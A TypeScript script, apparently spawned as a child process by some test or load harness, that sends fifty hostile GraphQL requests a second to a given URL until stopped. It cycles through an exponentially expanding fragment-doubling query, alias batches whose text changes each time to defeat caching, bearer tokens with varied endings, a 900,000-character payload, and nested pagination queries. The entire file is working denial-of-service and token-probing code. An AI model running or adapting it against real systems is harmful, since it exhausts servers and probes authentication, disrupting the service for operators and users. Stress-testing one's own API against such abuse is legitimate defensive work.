import { setTimeout as wait } from 'node:timers/promises';
import { send } from './target.ts';

/** Sends fifty hostile requests a second, of every kind in turn, until it is stopped. */
const [url = '', token = ''] = process.argv.slice(2);
const doubling = `{ region(code: "63") { ...f0 } } ${Array.from({ length: 22 }, (_, n) => `fragment f${n} on Region { a: parent { ...f${n + 1} } b: parent { ...f${n + 1} } }`).join(' ')} fragment f22 on Region { code }`;
const json = { 'content-type': 'application/json', authorization: `Bearer ${token}` };
const body = (query: string, variables: object = {}) => JSON.stringify({ query, variables });
const heavy = body('{ __typename }', { a: 'x'.repeat(900_000) });
const requests: ((n: number) => RequestInit)[] = [
  () => ({ headers: json, body: body(doubling) }),
  // Every text is new, so that no cached measurement or plan applies.
  (n) => ({
    headers: json,
    body: body(`{ ${Array.from({ length: 28 }, (_, k) => `a${n}_${k}: region(code: "63") { name }`).join(' ')} }`),
  }),
  (n) => ({
    headers: { ...json, authorization: `Bearer ${token.slice(0, -8)}${String(n).padStart(8, 'A')}` },
    body: body('{ __typename }'),
  }),
  () => ({ headers: json, body: heavy }),
  (n) => ({
    headers: json,
    body: body(`query q${n} { regions(first: 100) { edges { node { name parent { name parent { name } } } } } }`),
  }),
];
process.send?.('ready');
for (let n = 0; ; n += 1) {
  const request = requests[n % requests.length]?.(n) ?? {};
  void send(`${url}/graphql`, { method: 'POST', ...request }).catch(() => undefined);
  await wait(20);
}
